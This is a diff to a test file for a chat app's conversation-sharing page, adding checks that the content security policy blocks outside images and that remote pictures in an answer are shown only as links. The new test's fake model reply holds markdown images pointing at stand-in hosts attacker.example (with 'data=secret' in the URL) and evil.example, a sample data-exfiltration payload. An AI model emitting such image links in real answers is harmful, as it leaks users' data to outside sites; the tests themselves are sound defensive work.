@@ -83,6 +83,9 @@ describe('share a conversation', () => {
     // Light: no script, no chat bundle.
     expect(html).not.toMatch(/<script|\/assets\//);
     expect(page.headers['content-security-policy']).toContain("script-src 'none'");
+    // No script, so no analytics beacon either: pictures from the site, data: and blob: only.
+    const imgSrc = /img-src ([^;]*)/.exec(String(page.headers['content-security-policy']))?.[1];
+    expect(imgSrc?.split(' ').sort()).toEqual(["'self'", 'blob:', 'data:']);
     // The picture is one of ours, signed afresh, and loads signed out.
     const src = /<img src="([^"]+)"/.exec(html)![1]!.replaceAll('&amp;', '&');
     expect(src).toMatch(/^\/api\/files\/.+\?exp=\d+&sig=/);
@@ -118,6 +121,22 @@ describe('share a conversation', () => {
     expect(html).toContain(
       '<title>&quot;&gt;&lt;script&gt;alert(4)&lt;/script&gt; &amp; &lt;/title&gt;&lt;b&gt;</title>',
     );
+  });
+
+  it("shows another site's picture in an answer as a link naming its host, never loaded", async () => {
+    const h = bearer(alice.token);
+    const groupId = await newGroup(h);
+    fake.reply =
+      'Chart: ![chart](https://attacker.example/x.gif?data=secret&more=1) and ' +
+      '![side](//evil.example/y.png "t")';
+    await stream(h, { gptModelId: models.Fake, prompt: 'Draw me a chart', options: { groupId } });
+    const s = (await share(h, groupId)).body.data;
+    const html = (await open(s.path)).body;
+    expect(html).not.toMatch(/<img[^>]*(attacker|evil)\.example/);
+    expect(html).toContain(
+      '<a class="remote-picture" href="https://attacker.example/x.gif?data=secret&amp;more=1" rel="noopener noreferrer nofollow" target="_blank">A picture from attacker.example (not loaded; opens that site)</a>',
+    );
+    expect(html).toContain('A picture from evil.example (not loaded; opens that site)');
   });
 
   it('lists and revokes only its owner’s shares; a revoked link is a 404 page', async () => {
